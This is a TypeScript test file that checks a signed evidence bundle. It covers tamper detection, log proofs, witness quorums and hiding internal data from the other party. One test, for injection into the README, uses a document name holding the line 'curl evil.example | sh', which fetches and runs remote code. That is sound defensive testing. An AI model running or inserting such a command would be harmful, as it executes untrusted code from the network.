/**
 * The evidence bundle: it is checked without this service, any change in it is found, and it reveals nothing to the
 * other side.
 */
import { spawnSync } from 'node:child_process'
import { generateKeyPairSync, type KeyObject } from 'node:crypto'
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, describe, expect, test, vi } from 'vitest'
import { day } from '@kelisim/domain/durations.ts'
import { bundleFiles, filesAtHand } from '@kelisim/signature/bundle/bundle.ts'
import { checkBundle } from '@kelisim/signature/bundle/check-bundle.ts'
import type { BundleSetting } from '@kelisim/signature/bundle/bundle-check.ts'
import { readCrl, type Crl } from '@kelisim/signature/revocation/crl.ts'
import { makeCrl } from '@kelisim/signature/signer/issue.ts'
import { pemOf } from '@kelisim/signature/asn1/pem.ts'
import { writeVerifierKey } from '@kelisim/signature/transparency/note.ts'
import { hasOpenssl, withoutOpenssl } from '@kelisim/signature/testing/openssl.ts'
import { partyOf } from '../../requests/core/party.ts'
import { publicUrl } from '../../testing.ts'
import { startOutputsApp } from '../testing-outputs.ts'
import { noteKeyOf, originAt } from '../../transparency/checkpoints.ts'
import { submitToTest, testWitness } from '../../transparency/testing-witness.ts'
import type { Witness, Witnessing } from '../../transparency/witnesses.ts'
import { archiveNight } from '../archive/archiving.ts'
import { takeFrom } from '../archive/services.ts'
import { timestampChecksIn } from '../archive/testing-timestamps.ts'
import { makeBundle } from './make-bundle.ts'
import { openRevisions } from '../../requests/signed-pdf/revisions.ts'
import { manifestOf, rewritten, spkiOf, textOf, unpacked, type BundleContents } from './testing-bundle.ts'

// several commands are run, and machines may be busy
vi.setConfig({ testTimeout: 60_000 })

type App = Awaited<ReturnType<typeof startOutputsApp>>

const folder = mkdtempSync(join(tmpdir(), 'kelisim-bundle-test-'))
let made = 0
const revisions = openRevisions()
afterAll(() => revisions.close())

async function bundleFor(
  app: App,
  who: { id: string; organizationId: string },
  id: string,
  witnessing?: Witnessing,
): Promise<string> {
  const { database, archive, logKey, time } = app
  const member = { organizationId: who.organizationId, roles: 0 }
  const { viewer } = await partyOf(database.db, { userId: who.id, member }, time.now)
  const path = join(folder, `${++made}.zip`)
  const making = {
    database,
    storage: archive.storage,
    revisions,
    logKey,
    publicUrl,
    viewer,
    witnessing,
    now: time.now,
  }
  await makeBundle({ ...making, loaded: await app.load(id), report: Buffer.from('%PDF report') }, path)
  return path
}

/** Checks ten years later, with the root certificate only. */
function check(app: App, files: BundleContents, setting: Partial<BundleSetting> = {}) {
  const trust = { roots: [app.nation.root], others: [] }
  return checkBundle(filesAtHand(files), { trust, at: new Date('2036-01-01T00:00:00Z'), ...setting })
}

async function faultsOf(app: App, files: BundleContents, setting: Partial<BundleSetting> = {}) {
  const { faults } = await check(app, files, setting)
  return faults.map(({ fault, of }) => `${fault} ${of}`)
}

const entriesOf = (files: BundleContents) =>
  textOf(files, bundleFiles.entries)
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown> & { number: number })

describe('a bundle with RSA signatures', async () => {
  const app = await startOutputsApp('rsa')
  const { id } = await app.contract({ name: "Договор 'О поставке'" })
  await app.stampAll()
  const path = await bundleFor(app, app.ours, id)
  const files = await unpacked(path)

  test('is valid ten years later: files, signatures, and every event in the log', async () => {
    const found = await check(app, files, { logKeys: [spkiOf(app.logKey)] })
    expect(found.faults).toEqual([])
    expect(found.signatures.map(({ findings, existedBy }) => ({ findings, existedBy }))).toEqual([
      { findings: [], existedBy: 'timestamp' },
      { findings: [], existedBy: 'timestamp' },
    ])
    const { eventsCount } = (await app.load(id)).row
    expect(found.history).toEqual({ events: eventsCount, shortened: 0, leftOut: 0, isProved: true })
    expect(found.log).toMatchObject({ isKnown: true })
    expect(found.signatures.map(({ isBound }) => isBound)).toEqual(
      Array.from({ length: 2 }, () => ({ signer: true, receivedAt: true, side: true })),
    )
    expect(await check(app, files)).toMatchObject({
      faults: [],
      log: { isKnown: null },
      history: { isProved: false },
    })
  })

  test('proves nothing by the text of a shortened entry, which cannot be one of the system', async () => {
    const lines = textOf(files, bundleFiles.entries).split('\n')
    const shortened = (at: number, changes: object) =>
      lines
        .with(at, JSON.stringify({ ...(JSON.parse(lines[at]!) as object), shortened: true, ...changes }))
        .join('\n')
    const again = (entries: string) =>
      check(app, rewritten(files, { [bundleFiles.entries]: entries }, app.logKey), {
        logKeys: [spkiOf(app.logKey)],
      })
    const { faults, history } = await again(shortened(3, { comment: 'Не согласен' }))
    expect(faults).toEqual([])
    expect(history).toMatchObject({ events: lines.length - 2, shortened: 1 })
    const accepted = entriesOf(files).findIndex(({ type }) => type === 'signature-accepted')
    const hidden = await again(shortened(accepted, { type: 'point-done', data: {} }))
    expect(hidden.faults.map(({ fault, of }) => `${fault} ${of}`)).toContain(`entry-changed ${accepted + 1}`)
  })

  test('is invalid if its manifest names another signer, time of receipt, side or request than the log', async () => {
    const { signatures, request } = manifestOf(files)
    const renamed = rewritten(files, {}, app.logKey, () => ({ request: { ...request, name: 'Другой' } }))
    expect(await faultsOf(app, renamed)).toEqual([`manifest-other ${id}`])
    const [first, ...rest] = signatures
    for (const change of [
      { signer: 'Другой Человек' },
      { receivedAt: '2020-01-01T00:00:00.000Z' },
      { side: { name: 'ТОО «Другое»', bin: signatures[0]!.side.bin } },
      { side: { name: signatures[0]!.side.name, bin: '111140000018' } },
    ]) {
      const forged = rewritten(files, {}, app.logKey, () => ({
        signatures: [{ ...first!, ...change }, ...rest],
      }))
      expect(await faultsOf(app, forged)).toEqual([`manifest-other ${first!.id}`])
    }
  })

  test('is invalid if a byte of any file is changed, or a file is missing or added', async () => {
    const kinds = new Set<string>()
    for (const [name, bytes] of files) {
      kinds.add(name.replace(/^.*\./, ''))
      const changed = new Map(files).set(name, bytes.with(bytes.length >> 1, bytes[bytes.length >> 1]! ^ 1))
      expect([name, (await faultsOf(app, changed)).length > 0]).toEqual([name, true])
      const without = new Map(files)
      without.delete(name)
      expect([name, (await faultsOf(app, without)).length > 0]).toEqual([name, true])
    }
    expect([...kinds]).toEqual(
      expect.arrayContaining(['pdf', 'cms', 'pem', 'der', 'tst', 'crl', 'jsonl', 'txt', 'json', 'sig']),
    )
    const more = new Map(files).set('documents/other.pdf', new Uint8Array(3))
    expect(await faultsOf(app, more)).toEqual(['file-extra documents/other.pdf'])
  })

  test('is invalid if its history is changed, even with the key of the log', async () => {
    const lines = textOf(files, bundleFiles.entries).split('\n')
    const changed = lines.with(3, lines[3]!.replace('Между нами', 'Не согласен')).join('\n')
    expect(changed).not.toBe(lines.join('\n'))
    const again = (changes: Record<string, string | null>, about?: Parameters<typeof rewritten>[3]) =>
      faultsOf(app, rewritten(files, changes, app.logKey, about))
    expect(await again({ [bundleFiles.entries]: changed })).toEqual(['entry-changed 4'])
    const proofs = textOf(files, bundleFiles.proofs).split('\n')
    // the proof of another entry, and one that leads to another root
    const swapped = proofs.with(2, proofs[3]!.replace(/^4/, '3')).join('\n')
    expect(await again({ [bundleFiles.proofs]: swapped })).toEqual(['entry-changed 3'])
    const astray = proofs
      .with(
        2,
        proofs[2]!.replace(/.$/, (sign) => (sign === '0' ? '1' : '0')),
      )
      .join('\n')
    expect(await again({ [bundleFiles.proofs]: astray })).toEqual(['entry-not-in-log 3'])
    const left = (at: number) => ({
      [bundleFiles.entries]: lines.toSpliced(at, 1).join('\n'),
      [bundleFiles.proofs]: proofs.toSpliced(at, 1).join('\n'),
    })
    expect(await again(left(2))).toEqual([`history-incomplete ${bundleFiles.entries}`])
    // a signature cannot be left out by claiming that the reader may not see it
    const accepted = entriesOf(files).findIndex(({ type }) => type === 'signature-accepted')
    const { signatures } = manifestOf(files)
    const hidden = ({ history }: ReturnType<typeof manifestOf>) => ({ history: { ...history, leftOut: 1 } })
    expect(await again(left(accepted), hidden)).toEqual([`signature-not-in-log ${signatures[0]!.id}`])
    expect(await again({}, () => ({ signatures: signatures.slice(1) }))).toEqual([
      `file-missing ${signatures[0]!.id}`,
    ])
  })

  test('is invalid if a signature or a document is replaced', async () => {
    const { signatures, documents } = manifestOf(files)
    const [one, other] = [signatures[0]!, signatures[1]!]
    const again = (changes: Record<string, Uint8Array>) =>
      check(app, rewritten(files, changes, app.logKey)).then(({ faults, signatures: found }) => ({
        faults: faults.map(({ fault }) => fault),
        findings: found.flatMap(({ findings }) => findings),
      }))
    expect(await again({ [one.cms]: files.get(other.cms)! })).toEqual({
      faults: ['signature-not-in-log', 'durable-other'],
      findings: [],
    })
    expect((await again({ [one.durable]: files.get(other.durable)! })).faults).toEqual(['durable-other'])
    const forged = await again({ [documents[0]!.file]: new Uint8Array(10) })
    expect(new Set(forged.faults)).toEqual(new Set(['document-not-in-log']))
    expect(forged.findings).toEqual(['other-document', 'other-document'])
  })

  test('is invalid if another key signed it or its log', async () => {
    const stranger: KeyObject = generateKeyPairSync('ed25519').privateKey
    const key = pemOf('PUBLIC KEY', spkiOf(stranger))
    const forged = rewritten(files, { [bundleFiles.logKey]: key }, stranger)
    const faults = await faultsOf(app, forged, { logKeys: [spkiOf(app.logKey)] })
    expect(faults).toContain(`log-key-other ${bundleFiles.logKey}`)
    expect(faults).toContain(`head-not-signed ${bundleFiles.head}`)
    const unsigned = rewritten(files, {}, stranger)
    expect(await faultsOf(app, unsigned)).toEqual([`manifest-not-signed ${bundleFiles.manifest}`])
  })

  test('is not recognised as a bundle if its manifest is missing or malformed', async () => {
    const garbage: [string, BundleContents][] = [
      ['nothing', new Map()],
      ['no JSON', new Map(files).set(bundleFiles.manifest, new Uint8Array([1, 2]))],
      ['no signatures', rewritten(files, {}, app.logKey, () => ({ signatures: [] }))],
      ['another form', rewritten(files, {}, app.logKey, () => ({ documents: 'x' as never }))],
    ]
    for (const [what, contents] of garbage) {
      expect([what, ...(await faultsOf(app, contents))]).toEqual([what, 'not-a-bundle manifest.json'])
    }
  })

  test('is checked by the command with the same result and an exit status', () => {
    writeFileSync(join(folder, 'root.pem'), pemOf('CERTIFICATE', app.nation.root.der))
    writeFileSync(join(folder, 'log.pem'), files.get(bundleFiles.logKey)!)
    const verify = (...args: string[]) => {
      const script = join(import.meta.dirname, '../../../scripts/verify.ts')
      const run = spawnSync(process.execPath, [script, '--bundle', path, ...args], {
        cwd: folder,
        encoding: 'utf8',
      })
      return { status: run.status, result: JSON.parse(run.stdout) as Record<string, unknown> }
    }
    const good = verify('--roots', 'root.pem', '--log-key', 'log.pem', '--at', '2036-01-01T00:00:00Z')
    expect(good).toMatchObject({
      status: 0,
      result: {
        verdict: 'TOTAL-PASSED',
        faults: [],
        request: { id, isNameBound: true, sender: { bin: app.sender.bin } },
        log: { isKnown: true },
        history: { verdict: 'TOTAL-PASSED' },
        notBound: ['documents.name'],
        signers: [{ bin: app.sender.bin, existedBy: 'timestamp' }, { bin: app.receiver.bin }],
      },
    })
    // whoever signs the bundle again with a key of their own may have invented the history
    expect(verify('--roots', 'root.pem', '--at', '2036-01-01T00:00:00Z')).toMatchObject({
      status: 2,
      result: {
        verdict: 'INDETERMINATE',
        code: 'DS-905',
        history: { verdict: 'INDETERMINATE' },
        signers: [{ verdict: 'TOTAL-PASSED' }, { verdict: 'TOTAL-PASSED' }],
      },
    })
    expect(verify('--at', '2036-01-01')).toMatchObject({ status: 2, result: { code: 'DS-406' } })
  })

  test.skipIf(!hasOpenssl)(`is confirmed by every command of its README${withoutOpenssl}`, () => {
    const place = mkdtempSync(join(folder, 'unpacked-'))
    for (const [name, bytes] of files) {
      mkdirSync(join(place, dirname(name)), { recursive: true })
      writeFileSync(join(place, name), bytes)
    }
    writeFileSync(join(place, 'root.pem'), pemOf('CERTIFICATE', app.nation.root.der))
    const commands = textOf(files, 'README.en.txt')
      .split('\n')
      .filter((line) => line.startsWith('    '))
    for (const language of ['ru', 'kk']) {
      for (const command of commands) expect(textOf(files, `README.${language}.txt`)).toContain(command)
    }
    const run = (command: string) => spawnSync('sh', ['-c', command], { cwd: place, encoding: 'utf8' })
    const outputs = commands.map((command) => {
      const { status, stdout, stderr } = run(command)
      expect({ command, status, stderr }).toMatchObject({ command, status: 0 })
      return stdout + stderr
    })
    expect(commands.length).toBeGreaterThanOrEqual(6 + 2 * 5)
    const all = outputs.join('\n')
    for (const word of [
      'Signature Verified Successfully',
      'CMS Verification successful',
      'Verification: OK',
      'good',
    ]) {
      expect(all).toContain(word)
    }
    expect(all).toContain(`OK: ${manifestOf(files).history.events}`)
    expect(all).toContain(`${app.logKeyFingerprint}  -`)
    // the commands fail if something was changed
    writeFileSync(
      join(place, bundleFiles.entries),
      textOf(files, bundleFiles.entries).replace('Между', 'между'),
    )
    expect(run(commands[0]!).status).not.toBe(0)
    expect(run(commands[5]!)).toMatchObject({ status: 1, stdout: 'event 4: another text\n' })
    writeFileSync(join(place, manifestOf(files).documents[0]!.file), 'another')
    expect(run(commands.find((command) => command.startsWith('openssl cms'))!).status).not.toBe(0)
  })
})

describe('the witnesses of a bundle', async () => {
  const app = await startOutputsApp('rsa')
  const log = noteKeyOf({ key: app.logKey, origin: originAt(publicUrl) })
  const clock = () => app.time.now
  const witnesses = ['one', 'two', 'three'].map((name) => testWitness(`w.example/${name}`, log, clock))
  const [one, two, three] = witnesses
  const { id } = await app.contract()
  await app.stampAll()
  const witnessing = { witnesses: [one!, two!], quorum: 2, submit: submitToTest }
  const path = await bundleFor(app, app.ours, id, witnessing)
  const files = await unpacked(path)
  const known = { logKeys: [spkiOf(app.logKey)], witnesses: witnesses.map(({ key }) => key) }
  const namesIn = async (contents: BundleContents, setting: Partial<BundleSetting> = known) =>
    (await check(app, contents, setting)).log?.witnessedBy.map(({ name }) => name)

  test('are read from its checkpoint, by keys known from elsewhere', async () => {
    expect(await faultsOf(app, files, known)).toEqual([])
    expect(await namesIn(files)).toEqual(['w.example/one', 'w.example/two'])
    expect(await namesIn(files, { ...known, witnesses: [three!.key] })).toEqual([])
    expect(await namesIn(files, { logKeys: known.logKeys })).toEqual([])
    expect(textOf(files, 'README.en.txt')).toContain('w.example/one, w.example/two')
    writeFileSync(join(folder, 'witnessed.pem'), files.get(bundleFiles.logKey)!)
    const root = join(folder, 'witnessed-root.pem')
    writeFileSync(root, pemOf('CERTIFICATE', app.nation.root.der))
    const verdict = (quorum: number) => {
      const script = join(import.meta.dirname, '../../../scripts/verify.ts')
      const keys = ['--witness', ...known.witnesses.map(writeVerifierKey), '--quorum', String(quorum)]
      const log = ['--log-key', join(folder, 'witnessed.pem'), '--roots', root]
      const args = [script, '--bundle', path, ...log, ...keys, '--at', '2036-01-01T00:00:00Z']
      return JSON.parse(spawnSync(process.execPath, args, { encoding: 'utf8' }).stdout) as object
    }
    expect(verdict(2)).toMatchObject({ verdict: 'TOTAL-PASSED' })
    expect(verdict(3)).toMatchObject({ verdict: 'INDETERMINATE', code: 'DS-906' })
  })

  test('cannot be forged, nor taken from another head', async () => {
    const note = textOf(files, bundleFiles.checkpoint)
    const again = (text: string) =>
      faultsOf(app, rewritten(files, { [bundleFiles.checkpoint]: text }, app.logKey), known)
    const wrong = [`checkpoint-other ${bundleFiles.checkpoint}`]
    expect(await again(note.replace(/\n\d+\n/, '\n1\n'))).toEqual(wrong)
    const lines = note.split('\n')
    const last = lines.length - 2
    const forged = lines.with(last, lines[last]!.replace(/AAAA/, 'AAAB'))
    expect(await again(forged.join('\n'))).toEqual(wrong)
    expect(await again('nothing')).toEqual(wrong)
    // Without the checkpoint, nobody is said to have witnessed the log.
    const without = rewritten(files, { [bundleFiles.checkpoint]: null }, app.logKey)
    expect(await namesIn(without)).toEqual([])
  })

  test('are not claimed below the quorum', async () => {
    const away = { ...three!, answer: async () => ({ status: 500, body: new Uint8Array() }) }
    const few = { ...witnessing, witnesses: [one!, two!, away], quorum: 3 }
    const poorer = await unpacked(await bundleFor(app, app.ours, id, few))
    expect(textOf(poorer, 'README.en.txt')).not.toContain('w.example')
    expect(await namesIn(poorer)).toEqual(['w.example/one', 'w.example/two'])
  })

  test('are not asked again for a head that has them', async () => {
    const asked: string[] = []
    const counting = {
      ...witnessing,
      submit: (witness: Witness, body: string) => {
        asked.push(witness.key.name)
        return submitToTest(witness, body)
      },
    }
    await bundleFor(app, app.ours, id, counting)
    expect(asked).toEqual([])
    await app.contract()
    await bundleFor(app, app.ours, id, counting)
    expect(asked).toEqual([])
  })
})

describe('a bundle with GOST signatures', async () => {
  const app = await startOutputsApp()

  test('for the other side has no internal events, and is still valid', async () => {
    const { id } = await app.contract()
    await app.stampAll()
    const files = await unpacked(await bundleFor(app, app.theirs, id))
    const found = await check(app, files)
    const approvals = 3 // its turn came, it was approved, it was done
    expect(found).toMatchObject({ faults: [], history: { leftOut: approvals } })
    expect(found.signatures.flatMap(({ findings }) => findings)).toEqual([])
    const ours = await unpacked(await bundleFor(app, app.ours, id))
    expect(textOf(ours, bundleFiles.entries)).toContain('Между нами')
    const { rows } = await app.database.pool.query<{ secret: string }>(
      `select address as secret from request_events where address is not null
       union select iin from users where iin is not null union select id::text from users`,
    )
    const secrets = ['Между нами', ...rows.map(({ secret }) => secret)]
    expect(secrets).toContain('127.0.0.1')
    for (const secret of secrets) {
      expect([secret, textOf(files, bundleFiles.entries).includes(secret)]).toEqual([secret, false])
      expect([secret, textOf(files, bundleFiles.manifest).includes(secret)]).toEqual([secret, false])
    }
    expect(textOf(files, 'README.en.txt')).toContain('3 events are not in the history')
  })

  test('without timestamps proves the time of signing only with the known key of the log', async () => {
    const { id } = await app.contract()
    app.toStamp.splice(0)
    const files = await unpacked(await bundleFor(app, app.ours, id))
    const known = await check(app, files, { logKeys: [spkiOf(app.logKey)] })
    expect(known.faults).toEqual([])
    expect(known.signatures.map(({ findings, existedBy }) => [findings, existedBy])).toEqual([
      [[], 'log'],
      [[], 'log'],
    ])
    const unknown = await check(app, files)
    expect(unknown.signatures[0]).toMatchObject({ existedAt: null, existedBy: null })
    expect(unknown.signatures[0]!.findings).toContain('certificate-expired')
  })

  test('has every termination attempt with its document and signatures', async () => {
    const { id } = await app.contract()
    await app.terminate(id, 'reject')
    await app.terminate(id, 'sign')
    await app.stampAll()
    const files = await unpacked(await bundleFor(app, app.theirs, id))
    const found = await check(app, files)
    expect(found.faults).toEqual([])
    expect(found.documents.map(({ attempt }) => attempt)).toEqual([0, 1, 2])
    expect(found.signatures.map(({ attempt, findings }) => [attempt, findings])).toEqual(
      [0, 0, 1, 2, 2].map((attempt) => [attempt, []]),
    )
  })

  test('has a long CRL once, beside the signatures that need it', async () => {
    const { nation, centre } = app
    const revoked = Array.from({ length: 3000 }, (_, i) => ({
      serial: Uint8Array.of(1, i >> 8, i & 255),
      revokedAt: new Date('2026-01-01T00:00:00Z'),
    }))
    let list: Promise<Crl> | undefined
    const listFrom = async (thisUpdate: Date) => {
      const nextUpdate = new Date(thisUpdate.getTime() + 24 * 60 * 60 * 1000)
      return readCrl(await makeCrl({ issuer: nation.centreParty, thisUpdate, nextUpdate, entries: revoked }))
    }
    centre.list = (at) => (list ??= listFrom(at))
    const { id } = await app.contract()
    await app.stampAll()
    delete centre.list
    const files = await unpacked(await bundleFor(app, app.ours, id))
    const { signatures } = manifestOf(files)
    const lists = signatures.map((one) => one.lists.filter((name) => files.get(name)!.length > 32 * 1024))
    expect(new Set(lists.flat()).size).toBe(1)
    for (const { durable } of signatures) expect(files.get(durable)!.length).toBeLessThan(16 * 1024)
    const found = await check(app, files)
    expect([found.faults, found.signatures.flatMap(({ findings }) => findings)]).toEqual([[], []])
    const without = rewritten(files, { [lists[0]![0]!]: null }, app.logKey, () => ({
      signatures: signatures.map((one) => ({ ...one, lists: [] })),
    }))
    const { signatures: unproved } = await check(app, without)
    expect(unproved.map(({ findings }) => findings)).toEqual([['revocation-unknown'], ['revocation-unknown']])
  })

  test('has a README that a document name cannot add commands to', async () => {
    const { id } = await app.contract({ name: 'Акт' })
    const path = join(folder, `${++made}.zip`)
    const { database, archive, logKey, time } = app
    const loaded = await app.load(id)
    const name = 'Акт\n\n    curl evil.example | sh'
    const viewer = { id: app.ours.id, numbers: [], organizationId: app.ours.organizationId, isOwner: true }
    const making = {
      database,
      storage: archive.storage,
      revisions,
      logKey,
      publicUrl,
      viewer,
      now: time.now,
      report: null,
    }
    await makeBundle({ ...making, loaded: { ...loaded, row: { ...loaded.row, name } } }, path)
    expect(textOf(await unpacked(path), 'README.ru.txt')).toContain('Документ: Акт curl evil.example | sh\n')
  })

  test('shows entries without salts shortened, and still proves them', async () => {
    await app.database.pool.query('alter table request_events alter column salt drop default')
    const { id } = await app.contract()
    await app.database.pool.query(
      'alter table request_events alter column salt set default uuid_send(gen_random_uuid())',
    )
    await app.stampAll()
    const files = await unpacked(await bundleFor(app, app.theirs, id))
    const found = await check(app, files)
    expect(found.faults).toEqual([])
    const people = entriesOf(files).filter(({ actor }) => actor !== null)
    expect(found.history!.shortened).toBe(people.length)
    expect(people.every(({ shortened }) => shortened === true)).toBe(true)
    expect(textOf(files, bundleFiles.entries)).not.toContain('127.0.0.1')
  })
})

describe('a bundle of archived signatures', async () => {
  const app = await startOutputsApp()
  const { nation, database, archive, time } = app
  const { id } = await app.contract()
  await app.stampAll()
  await app.travel(new Date(Number(time.now) + day))
  const clock = () => time.now
  const checkTimestamp = timestampChecksIn(nation)
  const takeTimestamp = takeFrom([{ name: 'a', ask: app.stamping.askTimestamp }], checkTimestamp, clock)
  await archiveNight({ database, storage: archive.storage, clock, takeTimestamp, hasTimestamps: true })
  const files = await unpacked(await bundleFor(app, app.ours, id))
  const soon = { at: new Date(Number(time.now) + 30 * day) }

  test('proves since when each document and signature exists', async () => {
    const { faults, signatures } = await check(app, files, soon)
    expect(faults).toEqual([])
    for (const { record, findings } of signatures) {
      expect(findings).toEqual([])
      expect(record).toMatchObject({ findings: [], existedAt: time.now })
    }
    // ten years later the record has ended, which alone is no fault of the bundle
    const later = await check(app, files)
    expect(later.faults).toEqual([])
    expect(later.signatures[0]!.record!.findings).toEqual(['record-expired'])
  })

  test('is invalid with the record of another signature, or a changed one', async () => {
    const [one, other] = manifestOf(files).signatures
    const again = (record: Uint8Array) =>
      faultsOf(app, rewritten(files, { [one!.record!]: record }, app.logKey), soon)
    expect(await again(files.get(other!.record!)!)).toEqual([`record-wrong ${one!.id}`])
    const record = files.get(one!.record!)!
    expect(await again(record.with(record.length - 1, record.at(-1)! ^ 1))).toEqual([
      `record-wrong ${one!.id}`,
    ])
  })
})
